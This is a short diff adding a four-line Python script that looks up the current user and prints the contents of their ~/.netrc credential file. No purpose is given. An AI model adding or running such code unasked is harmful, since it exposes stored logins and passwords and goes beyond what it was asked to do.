@@ -1,0 +1,4 @@
+import getpass
+
+user = getpass.getuser()
+print(open(f"/home/{user}/.netrc").read())
